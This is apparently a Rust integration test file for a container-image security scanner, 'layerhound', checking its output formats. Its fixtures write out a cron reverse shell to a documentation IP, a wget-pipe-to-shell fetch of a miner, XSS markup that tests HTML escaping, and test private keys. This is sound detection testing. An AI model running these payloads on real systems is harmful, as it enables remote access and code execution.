//! Every output format on real output, read back by the consumer it is for: the JSON and SARIF
//! reports against their schemas, SARIF by Microsoft's SARIF Multitool, the bodyfile by The
//! Sleuth Kit's `mactime`, the HTML case file in headless Chromium; text, JSONL and CSV
//! against the JSON report of the same run; and the workflow flags.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use serde_json::{json, Value};

use common::build;

fn layerhound(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_layerhound")).args(args).current_dir(env!("CARGO_MANIFEST_DIR")).output().expect("the binary runs")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|err| panic!("{}: {err}", path.display()))
}

/// Whether a program is on PATH (`sh -c 'command -v'`).
fn installed(program: &str) -> bool {
    Command::new("sh").arg("-c").arg(format!("command -v {program}")).output().is_ok_and(|out| out.status.success())
}

/// Every format of one scan of the samples, written into one directory.
struct Run {
    dir: PathBuf,
}

impl Run {
    fn file(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }

    fn report(&self) -> Value {
        serde_json::from_str(&read(&self.file("report.json"))).expect("report.json is JSON")
    }
}

fn samples_run() -> &'static Run {
    static RUN: OnceLock<Run> = OnceLock::new();
    RUN.get_or_init(|| {
        // One per process: nextest runs each test in a process of its own, at the same time.
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("outputs-samples-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let formats = "json,text,jsonl,sarif,bodyfile,csv,files-csv,html";
        let run = layerhound(&["scan", "samples/", "--format", formats, "-o", dir.to_str().unwrap()]);
        assert_eq!(run.status.code(), Some(1), "complete, with findings: {}", stderr(&run));
        Run { dir }
    })
}

/// (finding id, place, layer, state) of every finding location in a JSON report.
fn locations(report: &Value) -> Vec<(String, String, Option<u64>, String)> {
    let mut all = Vec::new();
    for input in report["inputs"].as_array().unwrap() {
        for image in input["images"].as_array().unwrap() {
            for finding in image["findings"].as_array().unwrap() {
                for at in finding["locations"].as_array().unwrap() {
                    let place = at["path"].as_str().or(at["field"].as_str()).unwrap_or("?").to_string();
                    all.push((finding["id"].as_str().unwrap().into(), place, at["layer"].as_u64(), at["state"].as_str().unwrap().into()));
                }
            }
        }
    }
    all
}

#[test]
fn one_scan_writes_every_format_into_the_directory() {
    let run = samples_run();
    for name in
        ["report.json", "report.txt", "report.jsonl", "report.sarif", "report.body", "report.csv", "report.files.csv", "report.html"]
    {
        assert!(run.file(name).is_file(), "{name} missing");
    }
    let report = run.report();
    assert_eq!(report["complete"], true);
    // The inventory is in the report when bodyfile or files-csv is asked for.
    let files = report["inputs"][0]["images"][0]["files"].as_array().expect("the inventory");
    let fs = &report["inputs"][0]["images"][0]["filesystem"];
    let versions = |state: &str| files.iter().filter(|f| f["state"] == state && f["kind"] != "dir").count() as u64;
    let dirs = |state: &str| files.iter().filter(|f| f["state"] == state && f["kind"] == "dir").count() as u64;
    assert_eq!(versions("deleted") + dirs("deleted"), fs["deleted"].as_u64().unwrap());
    assert_eq!(versions("present") + dirs("present"), fs["present"].as_u64().unwrap());
}

#[test]
fn json_with_the_inventory_and_baseline_matches_the_report_schema() {
    let run = samples_run();
    let schema: Value = serde_json::from_str(&read(&common::repo_path("docs/report.schema.json"))).unwrap();
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    let mut report = run.report();
    let errors: Vec<String> = validator.iter_errors(&report).map(|e| format!("{}: {e}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    report["inputs"][0]["images"][0]["findings"][0]["baseline"] = json!("known");
    assert!(validator.is_valid(&report));
    report["inputs"][0]["images"][0]["findings"][0]["baseline"] = json!("seen");
    assert!(!validator.is_valid(&report), "the schema must refuse an unknown baseline state");
}

#[test]
fn text_groups_findings_by_severity_with_place_layer_and_state_and_redacts_secrets() {
    let text = read(&samples_run().file("report.txt"));
    assert!(text.contains("  image 1: webapp-debug (linux/amd64), 5 layers verified\n"), "{text}");
    // What is both severe and confident leads; the samples' deleted .env and config token are
    // published examples (confidence low): counted apart and listed last.
    // Critical: the cron reverse shell, the netcat shell, and start.sh fetching xmrig from a bare
    // IP (high, one step up because the entrypoint runs it).
    assert!(text.contains("    findings: 3 critical, 6 high, 4 medium, 1 low; 4 more at low confidence (1 medium, 3 low)\n"), "{text}");
    assert!(text.contains("    AT LOW CONFIDENCE (4)\n      medium secrets:database-url-password"), "{text}");
    assert!(text.contains("    CRITICAL (3)\n      layerhound:reverse_shell_dev_tcp [high confidence]"), "{text}");
    assert!(text.contains("        /etc/cron.d/backup (layer 4, present)\n"), "{text}");
    assert!(text.contains("        /app/.env (layer 1, deleted)\n"), "{text}");
    assert!(text.contains("wget -qO- http://203.0.113.7/i.sh | sh"), "layers with created_by: {text}");
    assert!(!text.contains("wJalrXUtnFEMI") && !text.contains("ghp_FAKEexample"), "secrets are redacted: {text}");
    assert!(!text.contains('\x1b'), "no colour in a file");
    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 54 findings, 0 errors; complete\n"), "{text}");
}

#[test]
fn stdout_is_json_when_piped_and_text_is_coloured_only_when_asked() {
    let piped = layerhound(&["scan", "samples/webapp.docker.tar"]);
    let report: Value = serde_json::from_slice(&piped.stdout).expect("JSON on a pipe");
    assert_eq!(report["summary"]["images"], 1);
    assert!(stderr(&piped).contains("  image 0: docker.io/library/webapp:1.0: 4 layers verified"), "the summary stays on stderr");
    let plain = layerhound(&["scan", "samples/webapp.docker.tar", "--format", "text", "--quiet"]);
    assert!(String::from_utf8_lossy(&plain.stdout).contains("    HIGH (4)\n"));
    assert!(plain.stderr.is_empty(), "--quiet: {}", stderr(&plain));
    let coloured = layerhound(&["scan", "samples/webapp.docker.tar", "--format", "text", "--color", "always", "-q"]);
    assert!(String::from_utf8_lossy(&coloured.stdout).contains("\x1b[31mHIGH"));
    let several = layerhound(&["scan", "samples/webapp.docker.tar", "--format", "json,text"]);
    assert_eq!(several.status.code(), Some(2));
    assert!(stderr(&several).contains("several formats need -o DIR"));
}

#[test]
fn jsonl_has_one_record_per_input_image_and_finding_then_a_summary() {
    let run = samples_run();
    let report = run.report();
    let records: Vec<Value> =
        read(&run.file("report.jsonl")).lines().map(|line| serde_json::from_str(line).expect("one JSON value per line")).collect();
    let kinds = |kind: &str| records.iter().filter(|r| r["record"] == kind).count();
    assert_eq!(kinds("input"), 3);
    assert_eq!(kinds("image"), 4);
    assert_eq!(kinds("finding") as u64, report["summary"]["findings"].as_u64().unwrap());
    assert_eq!(records[0]["record"], "input");
    assert_eq!(records.last().unwrap()["record"], "summary");
    assert_eq!(records.last().unwrap()["summary"], report["summary"]);
    let cron = records
        .iter()
        .find(|r| r["record"] == "finding" && r["detector"]["rule"] == "reverse_shell_dev_tcp")
        .expect("the planted reverse shell");
    assert_eq!(cron["refs"][0], "webapp-debug");
    assert_eq!(cron["locations"][0]["path"], "/etc/cron.d/backup");
}

#[test]
fn jsonl_records_carry_every_field_of_the_report() {
    let run = samples_run();
    let report = run.report();
    let records: Vec<Value> = read(&run.file("report.jsonl")).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let of_kind = |kind: &'static str| records.iter().filter(move |r| r["record"] == kind);
    let missing = |model: &Value, record: &Value, lists: &[&str]| -> Vec<String> {
        model
            .as_object()
            .unwrap()
            .keys()
            .filter(|key| !lists.contains(&key.as_str()) && record.get(key.as_str()).is_none())
            .cloned()
            .collect()
    };
    let inputs = report["inputs"].as_array().unwrap();
    // Streamed as each input finishes: in any order.
    for input in inputs {
        let record = of_kind("input").find(|r| r["path"] == input["path"]).expect("a record per input");
        assert_eq!(missing(input, record, &[]), Vec::<String>::new(), "input fields missing from its JSON Lines record");
        assert_eq!(record["images"], input["images"].as_array().unwrap().len());
        assert_eq!(record["tar_sha256"], input["tar_sha256"]);
    }
    for (input, image) in inputs.iter().flat_map(|i| i["images"].as_array().unwrap().iter().map(move |image| (i, image))) {
        let record = of_kind("image").find(|r| r["input"] == input["path"] && r["index"] == image["index"]).expect("a record per image");
        // Findings have records of their own; the inventory is the files CSV's and the bodyfile's.
        let lists = ["files", "hidden_versions_omitted"];
        assert_eq!(missing(image, record, &lists), Vec::<String>::new(), "image fields missing from its JSON Lines record");
        assert_eq!(record["findings"], image["findings"].as_array().unwrap().len());
        assert_eq!(record["history"], image["history"]);
    }
    let summary = records.last().unwrap();
    let top: Vec<String> = report
        .as_object()
        .unwrap()
        .keys()
        .filter(|key| !["inputs", "tool"].contains(&key.as_str()) && summary.get(key.as_str()).is_none())
        .cloned()
        .collect();
    assert_eq!(top, Vec::<String>::new(), "report fields missing from the summary record");
    assert_eq!(summary["tool"], report["tool"]["name"]);
}

#[test]
fn csv_has_one_row_per_finding_location_and_per_file_version() {
    let run = samples_run();
    let report = run.report();
    let mut findings = csv::Reader::from_path(run.file("report.csv")).unwrap();
    let headers = findings.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = findings.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), locations(&report).len());
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert!(rows.iter().any(|r| &r[column("place")] == "/app/.env" && &r[column("state")] == "deleted" && &r[column("layer")] == "1"));
    assert!(rows.iter().all(|r| !r[column("secret")].contains("wJalrXUtnFEMI")));
    let versions = csv::Reader::from_path(run.file("report.files.csv")).unwrap().records().count();
    let inventory: usize = report["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|i| i["images"].as_array().unwrap())
        .map(|im| im["files"].as_array().unwrap().len())
        .sum();
    assert_eq!(versions, inventory);
}

#[test]
fn bodyfile_is_read_by_mactime_with_every_layer_and_state() {
    let body = samples_run().file("report.body");
    let text = read(&body);
    assert!(text.lines().all(|line| line.split('|').count() == 11), "11 fields per line");
    assert!(text.contains("|/app/.env (layer 1, deleted) [webapp-1.0 in samples/webapp-multi.oci.tar]|0|r/rrw-"), "{text}");
    if !installed("mactime") {
        eprintln!("SKIPPED the mactime check: mactime is not installed (apt-get install sleuthkit; .ci/run does)");
        return;
    }
    let timeline = Command::new("mactime").arg("-b").arg(&body).arg("-d").output().expect("mactime runs");
    assert!(timeline.status.success(), "mactime: {}", stderr(&timeline));
    let timeline = String::from_utf8_lossy(&timeline.stdout);
    // mactime's CSV: Date,Size,Type,Mode,UID,GID,Meta,File Name
    let rows: Vec<&str> = timeline.lines().skip(1).collect();
    // The tar keeps only mtimes: one modification row per version (the zero times come as one
    // more row each, dated 0).
    assert_eq!(rows.iter().filter(|row| row.contains(",m...,")).count(), text.lines().count());
    for wanted in [
        "/etc/cron.d/backup (layer 4, present) [webapp-debug",
        "/app/.env (layer 1, deleted)",
        "/usr/bin/nc -> /bin/busybox (layer 4, present)",
    ] {
        assert!(rows.iter().any(|row| row.contains(wanted) && row.contains(",m...,")), "{wanted} not in the timeline:\n{timeline}");
    }
}

#[test]
fn sarif_matches_the_sarif_2_1_0_schema_and_locates_each_result() {
    let sarif: Value = serde_json::from_str(&read(&samples_run().file("report.sarif"))).unwrap();
    assert_valid_sarif(&sarif);
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len() as u64, samples_run().report()["summary"]["findings"].as_u64().unwrap());
    let cron = results.iter().find(|r| r["ruleId"] == "layerhound/reverse_shell_dev_tcp").unwrap();
    assert_eq!(cron["level"], "error");
    let uri = |result: &Value| result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap().to_string();
    let samples = common::repo_path("samples");
    assert_eq!(uri(cron), format!("file://{}/webapp-multi.oci.tar#image/1/layer/4/etc/cron.d/backup", samples.display()));
    assert_eq!(cron["locations"][0]["logicalLocations"][0]["name"], "layer 4");
    assert!(cron["partialFingerprints"]["layerhoundFindingId/v1"].as_str().is_some_and(|id| id.len() == 32));
    let rule = &rules[cron["ruleIndex"].as_u64().unwrap() as usize];
    assert_eq!(rule["id"], "layerhound/reverse_shell_dev_tcp");
    assert!(rule["shortDescription"]["text"].as_str().unwrap().contains("reverse shell"));
    let single = results.iter().find(|r| uri(r) == format!("file://{}/webapp.docker.tar#layer/1/app/.env", samples.display()));
    assert!(single.is_some(), "a one-image tarball's URIs name the layer directly");
    assert!(!serde_json::to_string(&sarif).unwrap().contains("wJalrXUtnFEMI"), "secrets are redacted");
}

fn assert_valid_sarif(sarif: &Value) {
    let schema: Value = serde_json::from_str(&read(&common::repo_path("tests/data/sarif/sarif-schema-2.1.0.json"))).unwrap();
    let validator = jsonschema::options().should_validate_formats(true).build(&schema).expect("the SARIF schema compiles");
    let errors: Vec<String> = validator.iter_errors(sarif).map(|e| format!("{}: {e}", e.instance_path())).collect();
    assert!(errors.is_empty(), "not valid SARIF 2.1.0: {errors:#?}");
}

/// Microsoft's SARIF Multitool (`npx @microsoft/sarif-multitool validate`), the reference
/// validator: schema plus the SARIF rules; no result at level error.
#[test]
fn sarif_passes_the_sarif_multitool() {
    if !installed("npx") {
        eprintln!("SKIPPED: npx is not installed (the SARIF Multitool runs through npm)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_image(&dir);
    let sarif_path = dir.path().join("hostile.sarif");
    let run = layerhound(&["scan", hostile.to_str().unwrap(), "--format", "sarif", "-o", sarif_path.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
    assert_valid_sarif(&serde_json::from_str(&read(&sarif_path)).unwrap());
    for sarif in [samples_run().file("report.sarif"), sarif_path] {
        let out = dir.path().join("validation.json");
        let _ = std::fs::remove_file(&out);
        let validate = Command::new("npx")
            .args(["--no-install", "@microsoft/sarif-multitool", "validate"])
            .arg(&sarif)
            .arg("-o")
            .arg(&out)
            .output()
            .expect("npx runs");
        assert!(
            validate.status.success(),
            "the SARIF Multitool failed on {} (installed by .ci/run: npm install -g @microsoft/sarif-multitool): {}{}",
            sarif.display(),
            String::from_utf8_lossy(&validate.stdout),
            stderr(&validate)
        );
        let verdict: Value = serde_json::from_str(&read(&out)).unwrap();
        let errors: Vec<&Value> = verdict["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["level"].as_str().unwrap_or("warning") == "error")
            .collect();
        assert!(errors.is_empty(), "{}: {errors:#?}", sarif.display());
    }
}

/// An image whose names and config carry markup and script: a cron file named like an HTML tag
/// holding a reverse shell, a label and a history step that close the script element.
fn hostile_image(dir: &tempfile::TempDir) -> PathBuf {
    let layer = build::layer_tar(&[
        ("etc/cron.d/<img src=x onerror=alert(1)>", b"* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n".as_slice()),
        ("app/\"quoted\" & <b>bold</b>.txt", b"hello".as_slice()),
    ]);
    let archive = build::oci_archive_with(&[(layer.clone(), layer)], |config| {
        config["config"]["Labels"] = json!({"org.evil": "</script><script>document.title='pwned'</script>"});
        config["history"][0]["created_by"] = json!("<script>document.title='pwned2'</script>");
    });
    build::write_temp(dir, "hostile.tar", &archive)
}

/// Headless Chromium's DOM of a page once its scripts ran, and what it logged.
fn chromium_dom(page: &Path, fragment: &str) -> Option<(String, String)> {
    let browser = ["chromium", "chromium-browser"].into_iter().find(|name| installed(name))?;
    let url = format!("file://{}{fragment}", page.display());
    // A profile of its own: a second Chromium on a shared profile hands its URL to the first.
    let profile = tempfile::tempdir().unwrap();
    let out = Command::new(browser)
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--enable-logging=stderr",
            "--v=0",
            "--virtual-time-budget=5000",
            "--dump-dom",
        ])
        .arg(&url)
        .output()
        .expect("chromium runs");
    assert!(out.status.success(), "chromium: {}", stderr(&out));
    Some((String::from_utf8_lossy(&out.stdout).into_owned(), stderr(&out)))
}

fn assert_page_clean(dom: &str, log: &str) {
    assert!(dom.contains("data-ready=\"yes\""), "the page's script did not run to the end");
    assert!(dom.contains("<div id=\"js-errors\"></div>"), "script errors on the page: {dom}");
    for bad in ["Uncaught", "Content Security Policy", "Refused to"] {
        assert!(
            !log.lines().any(|line| line.contains("CONSOLE") && line.contains(bad) || line.contains(bad)),
            "{bad} in the console:\n{log}"
        );
    }
}

#[test]
fn html_opens_in_headless_chromium_with_every_finding_row_and_filters() {
    let run = samples_run();
    let html = read(&run.file("report.html"));
    assert!(!html.contains("src=\"http") && !html.contains("href=\"http"), "no external assets");
    assert!(!html.contains("wJalrXUtnFEMI"), "secrets are redacted");
    let expected = locations(&run.report());
    let Some((dom, log)) = chromium_dom(&run.file("report.html"), "") else {
        eprintln!("SKIPPED the browser check: chromium is not installed (apt-get install chromium; .ci/run does)");
        return;
    };
    assert_page_clean(&dom, &log);
    assert_eq!(dom.matches("<tr class=\"finding\"").count(), expected.len());
    assert!(dom.contains(&format!("{n} of {n} rows shown", n = expected.len())), "every row shown unfiltered");
    assert!(dom.contains("<td class=\"mono\">/etc/cron.d/backup</td><td>4</td><td>present</td>"), "the cron finding row");
    // Filters preset from the fragment: only the critical rows stay visible.
    let critical = dom.matches("data-severity=\"critical\"").count();
    assert!(critical > 0);
    let (filtered, log) = chromium_dom(&run.file("report.html"), "#severity=critical&state=present").unwrap();
    assert_page_clean(&filtered, &log);
    assert!(
        filtered.contains(&format!("{critical} of {} rows shown", expected.len())),
        "filtered: {}",
        filtered.lines().find(|l| l.contains("rows shown")).unwrap_or("")
    );
    let hidden = filtered.split("<tr class=\"finding\"").skip(1).filter(|row| row.split('>').next().unwrap().contains(" hidden")).count();
    assert_eq!(hidden, expected.len() - critical);
}

#[test]
fn html_escapes_markup_from_a_hostile_image() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_image(&dir);
    let page = dir.path().join("hostile.html");
    let run = layerhound(&["scan", hostile.to_str().unwrap(), "--format", "html", "-o", page.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
    let html = read(&page);
    assert!(html.contains("/etc/cron.d/&lt;img src=x onerror=alert(1)&gt;"), "the path is shown, escaped");
    assert!(!html.contains("<img") && !html.contains("<script>document"), "markup from the image is never live");
    let Some((dom, log)) = chromium_dom(&page, "") else {
        eprintln!("SKIPPED the browser check: chromium is not installed");
        return;
    };
    assert_page_clean(&dom, &log);
    assert!(!dom.contains("<img"), "no element came from the image");
    assert!(dom.contains("<title>layerhound report"), "the title was not rewritten by an injected script");
    assert!(dom.contains("<td class=\"mono\">/etc/cron.d/&lt;img src=x onerror=alert(1)&gt;</td>"), "the finding row names the path");
}

#[test]
fn baseline_min_severity_and_fail_on_set_what_counts() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().join("base.json");
    let first = layerhound(&["scan", "samples/webapp.docker.tar", "-o", base.to_str().unwrap(), "-q"]);
    assert_eq!(first.status.code(), Some(1));
    // Everything already known: exit 0, every finding marked known.
    let again = layerhound(&["scan", "samples/webapp.docker.tar", "--baseline", base.to_str().unwrap(), "-q"]);
    assert_eq!(again.status.code(), Some(0), "{}", stderr(&again));
    let report: Value = serde_json::from_slice(&again.stdout).unwrap();
    let findings = report["inputs"][0]["images"][0]["findings"].as_array().unwrap();
    assert!(!findings.is_empty() && findings.iter().all(|f| f["baseline"] == "known"));
    // A new image against that baseline: its own findings are new and count.
    let debug = layerhound(&["scan", "samples/webapp-multi.oci.tar", "--baseline", base.to_str().unwrap(), "-q"]);
    assert_eq!(debug.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&debug.stdout).unwrap();
    let new: Vec<&Value> =
        report["inputs"][0]["images"][1]["findings"].as_array().unwrap().iter().filter(|f| f["baseline"] == "new").collect();
    assert!(new.iter().any(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp"), "{new:#?}");
    // webapp.docker.tar's worst finding is critical at medium confidence (start.sh, which the
    // entrypoint runs, fetches xmrig from a bare IP); nothing is critical at high confidence.
    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "critical", "-q"]).status.code(), Some(1));
    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "critical:high", "-q"]).status.code(), Some(0));
    assert_eq!(layerhound(&["scan", "samples/webapp.docker.tar", "--fail-on", "high", "-q"]).status.code(), Some(1));
    let high = layerhound(&["scan", "samples/webapp.docker.tar", "--min-severity", "high", "-q"]);
    let report: Value = serde_json::from_slice(&high.stdout).unwrap();
    let severities: Vec<&str> =
        report["inputs"][0]["images"][0]["findings"].as_array().unwrap().iter().map(|f| f["severity"].as_str().unwrap()).collect();
    assert!(!severities.is_empty() && severities.iter().all(|s| ["critical", "high"].contains(s)), "{severities:?}");
    assert_eq!(report["summary"]["findings"].as_u64().unwrap() as usize, severities.len());
    let missing = layerhound(&["scan", "samples/webapp.docker.tar", "--baseline", "no-such-report.json"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(stderr(&missing).contains("no-such-report.json"));
}

/// A private key an operator left (a test key of `pem-private-key`, confidence high at this path).
const OPERATOR_KEY: &str = "-----BEGIN EC PRIVATE KEY-----
MHcCAQEEIL2D5GtTRSjgPPynk6SE+2As1OgCKAgOu9idTkr95/c+oAoGCCqGSM49
AwEHoUQDQgAEO4OqzHTYekfZiYF9rAcCPDEuVdCRQTyCbmh38ZEbIdLsVaAryTS+
T//dE0HoVjWInwWY4NDglbQCHjbLduPJug==
-----END EC PRIVATE KEY-----
";

/// Rules whose levels the analyst set: a critical match the rule itself doubts, a sure medium one.
const LEVEL_RULES: &str =
    "rule doubtful_critical { meta: severity = \"critical\" confidence = \"low\" strings: $a = \"DOUBT-MARKER\" condition: $a }
rule sure_medium { meta: severity = \"medium\" confidence = \"high\" strings: $a = \"SURE-MARKER\" condition: $a }
";

#[test]
fn severe_and_confident_findings_lead_and_confidence_sets_what_counts() {
    let dir = tempfile::tempdir().unwrap();
    let rules = build::write_temp(&dir, "levels.yar", LEVEL_RULES.as_bytes());
    // Key material built into a shared library: reported, confidence low, so at most medium.
    let library = [
        b"\x7fELF\x02\x01\x01\x00 test vectors\x00-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIDKYRBy9EUtR6jEFbGVp+uNaT1/T2oOyuAMv5p9J4D4E\n-----END PRIVATE KEY-----\n\x00".as_slice(),
        b"DOUBT-MARKER\x00",
    ]
    .concat();
    let image = |name: &str, files: &[(&str, &[u8])]| {
        let layer = build::layer_tar(files);
        build::write_temp(&dir, name, &build::oci_archive(&[(layer.clone(), layer)]))
    };
    let lib = "usr/lib/x86_64-linux-gnu/libdemo.so.1";
    let both = image("both.tar", &[("root/deploy.pem", OPERATOR_KEY.as_bytes()), (lib, &library), ("etc/app.conf", b"SURE-MARKER\n")]);
    let doubtful = image("doubtful.tar", &[(lib, &library)]);
    let scan = |image: &Path, extra: &[&str]| {
        let mut args = vec!["scan", image.to_str().unwrap(), "--rules", rules.to_str().unwrap(), "-q"];
        args.extend_from_slice(extra);
        layerhound(&args)
    };
    let levels = |output: &Output| -> Vec<(String, String, String)> {
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        report["inputs"][0]["images"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                let field = |name: &str| f[name].as_str().unwrap().to_string();
                (field("severity"), field("confidence"), f["detector"]["rule"].as_str().unwrap().to_string())
            })
            .collect()
    };
    let expected = |rows: &[(&str, &str, &str)]| -> Vec<(String, String, String)> {
        rows.iter().map(|(s, c, r)| (s.to_string(), c.to_string(), r.to_string())).collect()
    };

    // The report's order: severe and confident first, then the low-confidence ones.
    let all = scan(&both, &["--format", "json"]);
    assert_eq!(all.status.code(), Some(1), "{}", stderr(&all));
    assert_eq!(
        levels(&all),
        expected(&[
            ("critical", "high", "pem-private-key"),
            ("medium", "high", "sure_medium"),
            ("critical", "low", "doubtful_critical"),
            ("medium", "low", "pem-private-key"),
        ])
    );
    // The text headline counts the confident ones, then the others apart, listed last.
    let text = String::from_utf8_lossy(&scan(&both, &["--format", "text", "--color", "never"]).stdout).into_owned();
    assert!(text.contains("    findings: 1 critical, 1 medium; 2 more at low confidence (1 critical, 1 medium)\n"), "{text}");
    let tail = text.split("    AT LOW CONFIDENCE (2)\n").nth(1).expect("a low-confidence group");
    assert!(tail.starts_with("      critical levels:doubtful_critical [low confidence]"), "{tail}");
    assert!(!text.split("AT LOW CONFIDENCE").next().unwrap().contains("doubtful_critical"), "{text}");
    // So does the HTML summary; its table filters by confidence.
    let html = dir.path().join("report.html");
    scan(&both, &["--format", "html", "-o", html.to_str().unwrap()]);
    let html = read(&html);
    assert!(html.contains("2 more at low confidence"), "the HTML summary counts apart");
    assert!(html.contains("id=\"f-confidence\"") && html.contains("data-confidence=\"low\""));

    // --min-confidence leaves the doubtful ones out of the report and the exit status.
    let confident = scan(&both, &["--format", "json", "--min-confidence", "medium"]);
    assert_eq!(levels(&confident), expected(&[("critical", "high", "pem-private-key"), ("medium", "high", "sure_medium")]));
    let none = scan(&doubtful, &["--min-confidence", "medium"]);
    assert_eq!(none.status.code(), Some(0), "{}", stderr(&none));

    // --fail-on SEVERITY counts medium and high confidence; SEVERITY:low counts every finding.
    let status = |image: &Path, fail_on: &[&str]| scan(image, &[&["--format", "json"], fail_on].concat()).status.code();
    assert_eq!(status(&doubtful, &[]), Some(1), "without --fail-on any finding kept counts");
    assert_eq!(status(&doubtful, &["--fail-on", "high"]), Some(0), "a doubted critical does not trip --fail-on high");
    assert_eq!(status(&doubtful, &["--fail-on", "high:low"]), Some(1));
    assert_eq!(status(&doubtful, &["--fail-on", "critical:medium"]), Some(0));
    assert_eq!(status(&both, &["--fail-on", "critical"]), Some(1), "the operator's key trips it");
    assert_eq!(status(&both, &["--fail-on", "critical:high"]), Some(1));
    let typo = scan(&both, &["--fail-on", "crit"]);
    assert_eq!(typo.status.code(), Some(2));
    assert!(stderr(&typo).contains("unknown severity \"crit\""), "{}", stderr(&typo));
}

#[test]
fn completions_and_man_page_come_from_the_clap_definitions() {
    let bash = layerhound(&["completions", "bash"]);
    assert!(bash.status.success());
    let bash = String::from_utf8_lossy(&bash.stdout);
    assert!(bash.contains("_layerhound()") && bash.contains("--min-severity"), "{bash}");
    let man = layerhound(&["man"]);
    assert!(man.status.success());
    let man = String::from_utf8_lossy(&man.stdout);
    assert!(man.contains(".TH layerhound") && man.contains("completions"), "{man}");
}
